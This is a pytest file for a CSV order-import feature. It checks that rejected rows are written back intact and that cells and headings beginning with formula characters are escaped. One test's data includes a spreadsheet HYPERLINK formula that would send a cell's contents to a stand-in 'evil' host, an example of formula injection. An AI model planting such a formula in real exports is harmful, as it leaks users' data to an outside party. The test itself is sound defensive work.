"""What stayed out is given back as it was, each reason under its heading."""

import csv
import io
from pathlib import Path

import pytest

from tests.channels.test_taking_files import HEADER, row
from zhanggui.channels import uploads
from zhanggui.channels.reading.cells import FORMULA
from zhanggui.ops.importing import take_files
from zhanggui.orders.models import Order

pytestmark = pytest.mark.django_db


def written(folder: Path, *rows: str, header: str = HEADER) -> Path:
    path = folder / "orders.csv"
    path.write_text("\n".join([header, *rows]), "utf-8")
    return path


@pytest.mark.capability("I-08")
def test_a_rejected_row_of_another_width_keeps_the_reason_under_its_heading_and_stays_out(
    shop_id: int, tmp_path: Path
) -> None:
    out = tmp_path / "rejects.csv"
    take_files("orders", [written(tmp_path, row("T1") + ",x,1,2", "T2,TEA,1", row("T3", pieces="0"))], rejects=out)
    _header, *lines = csv.reader(io.StringIO(out.read_text("utf-8-sig")))
    width = len(HEADER.split(","))
    assert [len(line) for line in lines] == [width + 5, width + 2, width + 2]
    assert ["列数" in line[width] for line in lines] == [True, True, False]
    assert lines[0][width + 2 :] == ["x", "1", "2"]
    again = take_files("orders", [out])
    assert (again.rows_rejected, [reject.row for reject in again.rejects]) == (3, [2, 3, 4])


@pytest.mark.capability("I-08")
def test_a_rejected_cell_comes_back_as_it_was(shop_id: int, tmp_path: Path) -> None:
    notes = ("=1+2", "-5", "'quoted", "=\"0123\"", "@me", "+86 来电", "-尽快", "plain")
    out = tmp_path / "rejects.csv"
    said = [f'{row(f"T{nth}", pieces="0")},"{note.replace(chr(34), chr(34) * 2)}"' for nth, note in enumerate(notes)]
    take_files("orders", [written(tmp_path, *said, header=f"{HEADER},买家留言")], rejects=out)
    mended = tmp_path / "mended.csv"
    mended.write_text(out.read_text("utf-8-sig").replace(",TEA,0,", ",TEA,1,"), "utf-8")
    assert take_files("orders", [mended]).orders_created == len(notes)
    kept = [note for (note,) in Order.objects.order_by("platform_no").values_list("buyer_note")]
    assert kept == [note if note != '="0123"' else "0123" for note in notes]


@pytest.mark.capability("I-08")
def test_a_heading_that_is_a_formula_is_given_back_as_text_and_known_again(shop_id: int, tmp_path: Path) -> None:
    headings = ('=HYPERLINK("http://evil/?"&A2,"备注")', "-客户", "@谁", '="余额"')
    quoted = ",".join('"{}"'.format(word.replace('"', '""')) for word in headings)
    given, out = written(tmp_path, row("T1", pieces="0") + ",a,b,c,d", header=f"{HEADER},{quoted}"), tmp_path / "rejects.csv"
    take_files("orders", [given], rejects=out)
    first, line = csv.reader(io.StringIO(out.read_text("utf-8-sig")))
    assert not [word for word in (*first, *line) if word.startswith(FORMULA)]
    assert first[len(HEADER.split(",")) :][:3] == [f"'{word}" for word in headings[:3]]

    def header(path: Path) -> list[str]:
        return uploads.header_of(path.read_bytes(), path.name, kind="orders", choices={}, header_row=None, sheet=None)

    # The columns are called what they were called: what was matched by hand is matched again.
    assert header(out)[: len(first) - 2] == header(given)
    assert header(given)[-1] == "余额"
    out.write_text(out.read_text("utf-8-sig").replace(",TEA,0,", ",TEA,1,"), "utf-8")
    assert take_files("orders", [out]).orders_created == 1
